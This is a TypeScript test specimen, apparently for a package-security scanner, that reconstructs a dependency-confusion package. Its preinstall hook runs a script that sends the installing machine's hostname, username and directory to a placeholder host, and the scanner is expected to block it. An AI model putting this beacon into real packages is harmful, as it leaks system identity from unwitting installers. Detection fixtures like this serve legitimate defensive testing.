import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-confusion-beacon',
  from: 'dependency confusion, 2021: host and user sent at install',
  files: {
    'package.json': { name: '@inert-corp/internal-ui', version: '99.9.1', scripts: { preinstall: 'node index.js' } },
    'index.js': `const os = require('os');
const query = new URLSearchParams({ h: os.hostname(), u: os.userInfo().username, d: __dirname });
require('https').get('https://beacon.invalid/?' + query);
`,
  },
  expect: 'block',
  says: ['sends-system-identity'],
};
